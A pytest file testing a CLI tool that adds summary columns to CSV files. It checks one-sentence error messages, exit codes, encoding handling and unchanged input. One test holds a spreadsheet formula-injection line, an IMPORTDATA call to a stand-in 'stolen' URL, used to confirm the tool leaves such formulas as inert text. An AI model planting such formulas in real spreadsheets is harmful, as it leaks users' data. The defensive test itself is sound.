"""What people get wrong: one sentence that says what to do, exit status 2, and the file as it was."""

from pathlib import Path

import pytest
from terminal import Terminal

GOOD = "id,text\n1,hello\n2,world\n"
RUN = {"source": "text", "output": "Summary"}


def _refused(terminal: Terminal, *words: str) -> str:
    """Run a command that must be refused; its one sentence."""
    done = terminal.addon(*words)
    assert done.returncode == 2, done.stderr
    assert done.stdout == ""
    assert len(done.stderr.splitlines()) == 1, done.stderr
    return done.stderr.strip()


def _run(terminal: Terminal, file: Path | None = None, **options: str) -> list[str]:
    words = ["run", str(file or terminal.file), "--state", str(terminal.state)]
    return words + [word for name, value in (RUN | options).items() for word in (f"--{name}", value)]


@pytest.mark.parametrize(
    ("content", "options", "sentence"),
    [
        (GOOD, {"source": "body,id"}, "has no column “body”. It has the columns “id”, “text”."),
        (GOOD, {"source": " , "}, "Name at least one column to read with --source."),
        (GOOD, {"output": "text"}, "The column “text” cannot be read and written at once."),
        (GOOD, {"output": " "}, "Name the column for the summaries with --output"),
        (GOOD, {"instructions": " "}, "Say with --instructions what to write"),
        ("", {}, "is empty; it needs a header row"),
        (" \n\n", {}, "is empty; it needs a header row"),
        ("id,text\n", {}, "has a header but no rows below it."),
        ("id,text\n1,\n2, \t\n", {}, "No row of {file} has any text in “text”."),
        ("id,text,text\n1,a,b\n", {}, "More than one column of {file} is called “text”."),
        (",\n1,a\n", {"source": "Column B"}, "has no titles in its first line."),
        ('id,text\n1,"a" b\n', {}, "is not well-formed CSV"),
        ("id,text\n1,日本語\n".encode("shift_jis"), {}, "is not UTF-8 text (byte 10)"),
        (GOOD, {"state": "{file}"}, "{file} is not a folder. Name another one with --state."),
        (GOOD, {"results": "{file}"}, "{file} is a file; name a folder with --results."),
        (GOOD, {"results": "{file}/below"}, "The folder {file}/below cannot be made (Not a directory)"),
    ],
)
def test_what_cannot_be_worked_on_is_one_sentence(
    tmp_path: Path, content: str | bytes, options: dict[str, str], sentence: str
) -> None:
    terminal = Terminal(tmp_path)
    before = content if isinstance(content, bytes) else content.encode()
    terminal.file.write_bytes(before)
    filled = {name: value.format(file=terminal.file) for name, value in options.items()}
    said = _refused(terminal, *_run(terminal, **filled))
    assert sentence.format(file=terminal.file) in said
    assert terminal.file.read_bytes() == before
    assert terminal.started().total() == 0


def test_a_missing_file_and_a_folder_are_one_sentence(tmp_path: Path) -> None:
    terminal = Terminal(tmp_path)
    assert "There is no file" in _refused(terminal, *_run(terminal, tmp_path / "missing.csv"))
    assert "is a folder; name a CSV file in it." in _refused(terminal, *_run(terminal, tmp_path))


@pytest.mark.parametrize(
    ("variable", "value", "sentence"),
    [
        ("ADDON_COLOUR", "red", "ADDON_COLOUR is not a setting of this program"),
        (
            "ADDON_CONCURRENCY",
            "many",
            "ADDON_CONCURRENCY is 'many', but must be a whole number from 1 to 256.",
        ),
        ("ADDON_MODEL", "gpt", "must be builtin, gemini:MODEL"),
        ("ADDON_MODEL", "nowhere:model", "cannot be imported (ModuleNotFoundError)"),
        ("ADDON_MODEL", "json:dumps", "is nothing to be called without arguments"),
        ("ADDON_MODEL", "builtins:list", "what it makes is no language model"),
        ("ADDON_QUEUE", "summaries", "must look like projects/P/locations/L/queues/Q."),
        ("ADDON_BASE_URL", "http://example.com", "must use https"),
    ],
)
def test_a_bad_setting_is_one_sentence(tmp_path: Path, variable: str, value: str, sentence: str) -> None:
    terminal = Terminal(tmp_path, **{variable: value})
    terminal.file.write_text(GOOD)
    assert sentence in _refused(terminal, *_run(terminal))


def test_ragged_rows_get_their_summaries_and_keep_their_cells(tmp_path: Path) -> None:
    terminal = Terminal(tmp_path)
    terminal.file.write_text("id,text\n1,first,beyond,the header\n2\n3,third\n")
    assert terminal.run().returncode == 0
    header, *rows = terminal.read()
    assert header == ["id", "text", "", "", "Summary"]
    assert rows == [
        ["1", "first", "beyond", "the header", "summary of first"],
        ["2"],
        ["3", "third", "", "", "summary of third"],
    ]


def test_a_cell_longer_than_a_cell_may_be_fails_alone_and_stays_whole(tmp_path: Path) -> None:
    terminal = Terminal(tmp_path)
    long = "x" * 60_000
    terminal.write([["id", "text"], ["1", long], ["2", "short"]])
    done = terminal.run()
    assert done.returncode == 3
    assert "1 failed (row 2): a cell to read holds more than 50,000 characters" in done.stderr
    assert terminal.read() == [["id", "text", "Summary"], ["1", long, ""], ["2", "short", "summary of short"]]


def test_a_formula_in_a_cell_stays_the_text_it_is(tmp_path: Path) -> None:
    terminal = Terminal(tmp_path)
    formula = '=IMPORTDATA("http://127.0.0.1:1/stolen")'
    terminal.write([["id", "text"], ["1", formula]])
    assert terminal.run().returncode == 0
    assert terminal.read()[1] == ["1", formula, f"summary of {formula[:40]}"]


def test_a_title_with_a_comma_is_one_title_and_source_may_be_repeated(tmp_path: Path) -> None:
    terminal = Terminal(tmp_path)
    terminal.write([["name, given", "text"], ["Ada", "hello"]])
    done = terminal.addon(*_run(terminal, source="name, given"), "--source", "text")
    assert done.returncode == 0, done.stderr
    assert terminal.column("Summary") == ["summary of Ada hello"]


def test_a_terminal_that_knows_few_characters_is_no_reason_to_fail(tmp_path: Path) -> None:
    terminal = Terminal(tmp_path, PYTHONIOENCODING="latin-1")
    terminal.write([["本文"], ["こんにちは"]])
    done = terminal.run(source="本文", output="要約")
    assert done.returncode == 0, done.stderr
    assert terminal.column("要約") == ["summary of こんにちは"]
